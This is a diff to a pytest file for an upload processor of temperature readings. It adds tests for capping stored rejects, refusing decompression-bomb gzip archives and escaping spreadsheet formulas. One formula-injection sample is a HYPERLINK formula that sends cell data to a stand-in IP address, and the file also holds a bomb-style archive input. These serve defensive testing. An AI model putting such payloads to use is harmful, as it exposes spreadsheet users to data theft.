@@ -7,6 +7,7 @@ import gzip
 import io
 import random
 from collections.abc import Callable
+from functools import partial
 from typing import Any
 
 import pytest
@@ -72,6 +73,7 @@ def test_a_result_tells_what_became_of_every_line(settle: Receive) -> None:
         "last_at",
         "min_temp",
         "max_temp",
+        "rejects_kept",
         "first_errors",
     ]
     del result["execution_time"]
@@ -87,6 +89,7 @@ def test_a_result_tells_what_became_of_every_line(settle: Receive) -> None:
         "last_at": "2025-06-02T00:00:00.500000Z",
         "min_temp": -3.26,
         "max_temp": 21.5,
+        "rejects_kept": 2,
         "first_errors": [
             {
                 "line": 4,
@@ -131,13 +134,56 @@ def test_only_twenty_rejects_are_in_the_result_and_all_are_kept(settle: Receive)
     ]
 
 
+def test_rejects_beyond_the_bound_are_counted_and_the_result_says_how_many_are_there(
+    settle: Receive, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(
+        processor, "RejectsWriter", partial(processor.RejectsWriter, max_rejects=30)
+    )
+    file = settle("".join(f"bad {n}\n" for n in range(1, 501)) + "7,1,2025-06-01T12:00")
+    assert (file.result["rejected"], file.result["rejects_kept"]) == (500, 30)
+    assert list(file.result)[-3:] == ["max_temp", "rejects_kept", "first_errors"]
+    assert [row[2] for row in rejects_of(file)[1:]] == [f"bad {n}" for n in range(1, 31)]
+
+
+def test_an_archive_that_unpacks_beyond_reason_is_a_failure_that_names_the_file(
+    settle: Receive,
+) -> None:
+    before = objects()
+    file = settle(gzip.compress(b" " * 3_000_000), name="yard.gz")
+    assert (file.status, file.error) == (
+        File.Status.FAILURE,
+        "“yard.gz” unpacks to more than 450 times its size, as no readings do. Upload it unpacked.",
+    )
+
+
+def test_an_archive_unpacks_to_no_more_than_a_file_may_have(settle: Receive, settings: Any) -> None:
+    settings.TIMBA_MAX_UPLOAD_BYTES = 1024
+    file = settle(gzip.compress(b"7,1,2025-06-01T12:00\n" * 100), name="yard.gz")
+    assert (
+        file.error
+        == "“yard.gz” unpacks to more than the 1,024 bytes that a file may have. Split it."
+    )
+
+
 def test_texts_of_rejects_survive_as_they_are(settle: Receive) -> None:
-    bad = ['a "quoted", comma', "=1+1", "a\rb", "ends in blank ", "ünïcödé 🌲", "x" * 1000 + "cut"]
+    bad = ['a "quoted", comma', "a\rb", "ends in blank ", "ünïcödé 🌲", "x" * 1000 + "cut"]
     raw = "".join(f"{text}\n" for text in bad).encode() + b"n\0ul \xff\n7,1,2025-06-01T12:00"
     shown = [*(text[:1000] for text in bad), "n\ufffdul \ufffd"]
     file = settle(raw)
     assert [row[2] for row in rejects_of(file)[1:]] == shown
     assert [error["text"] for error in file.result["first_errors"]] == shown
+
+
+def test_no_reject_runs_as_a_formula(settle: Receive) -> None:
+    bad = ['=HYPERLINK("http://192.0.2.1/?"&A1,"click"),1.0,2026-03-01', "41;=1+1;x", " @SUM(1)"]
+    file = settle("".join(f"{text}\n" for text in bad) + "7,1,2025-06-01T12:00\n")
+    assert [row[2] for row in rejects_of(file)[1:]] == [
+        f"'{bad[0]}",
+        "41;'=1+1;x",
+        f"'{bad[2]}",
+    ]
+    assert [error["text"] for error in file.result["first_errors"]] == bad
 
 
 @pytest.mark.parametrize(
